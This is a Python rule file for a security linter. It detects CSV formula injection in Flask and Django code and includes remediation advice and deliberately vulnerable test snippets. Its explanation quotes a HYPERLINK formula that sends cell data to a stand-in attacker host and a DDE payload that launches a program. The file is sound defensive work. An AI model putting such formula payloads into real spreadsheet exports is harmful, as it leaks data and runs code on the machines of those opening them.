"""TG130: request data written into a CSV file by the `csv` module, where a spreadsheet runs formulas."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.files._flow import constructed_by, remote_taint

# The standard library's writers: they quote separators but leave a leading `=`, `+`, `-` or `@`.
_WRITERS = frozenset({"csv.writer", "csv.DictWriter"})


class CsvFormulaInjection(Rule):
    id = "TG130"
    name = "csv-formula-injection"
    severity = "medium"
    confidence = "medium"
    cwe = (1236,)
    owasp = "A05:2025"
    message = "User input ({source}) written to a CSV file unneutralised: a spreadsheet runs a leading `=` as a formula"
    placeholders = {"source": "request.form"}
    call_names = frozenset({"writerow", "writerows"})
    what = "A row written by a `csv` writer carries {source} as it was sent."
    why = (
        "CSV exports are opened in Excel or LibreOffice. A cell that starts with `=`, `+`, `-` or `@` is a "
        'formula there: a name such as `=HYPERLINK("https://attacker.example/?"&A2, "Click")` leaks the '
        "neighbouring cells when clicked, and older DDE payloads (`=cmd|' /C calc'!A0`) run programs on the "
        "machine of the administrator who opened the export."
    )
    how = (
        "Neutralise each user-supplied cell before writing it: prefix a value that starts with `=`, `+`, "
        '`-`, `@`, a tab or a carriage return with a single quote (`"\'" + value`), or write with '
        "`defusedcsv`, a drop-in `csv` that does it."
    )
    example = (
        "def export_row(writer, name):\n"
        "    if name[:1] in ('=', '+', '-', '@', '\\t', '\\r'):\n"
        '        name = "\'" + name\n'
        "    writer.writerow([name])"
    )
    references = (
        "https://cwe.mitre.org/data/definitions/1236.html",
        "https://owasp.org/www-community/attacks/CSV_Injection",
    )
    VALID = (
        # Rows from the code's own data.
        "import csv, io\ndef export(rows):\n    out = io.StringIO()\n    writer = csv.writer(out)\n"
        "    writer.writerows((r.id, r.total) for r in rows)\n    return out.getvalue()\n",
        # defusedcsv neutralises formulas itself.
        "import io\nimport defusedcsv as csv\nfrom flask import request\n@app.post('/export')\ndef export():\n"
        "    out = io.StringIO()\n    csv.writer(out).writerow([request.form['title']])\n    return out.getvalue()\n",
        # A writer of something else that happens to have a writerow method.
        "from flask import request\n@app.post('/log')\ndef log():\n    sheet.writerow([request.form['title']])\n",
    )
    INVALID = (
        Invalid(
            "import csv, io\nfrom flask import request\n@app.post('/export')\ndef export():\n"
            "    out = io.StringIO()\n    writer = csv.writer(out)\n"
            "    writer.writerow([request.form['title'], 'total'])\n    return out.getvalue()\n",
            message="User input (request.form)",
        ),
        Invalid(
            "import csv\ndef feedback(request):\n    with open('/srv/feedback.csv', 'a', newline='') as fh:\n"
            "        writer = csv.DictWriter(fh, fieldnames=['name', 'comment'])\n"
            "        writer.writerow({'name': request.POST['name'], 'comment': request.POST['comment']})\n",
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        func = node.func
        if not (isinstance(func, ast.Attribute) and func.attr in self.call_names and node.args):
            return
        source = remote_taint(ctx, node.args[0])
        if source is None or constructed_by(ctx, func.value) not in _WRITERS:
            return
        ctx.report(self, node.args[0], details={"source": source.label}, source=source)
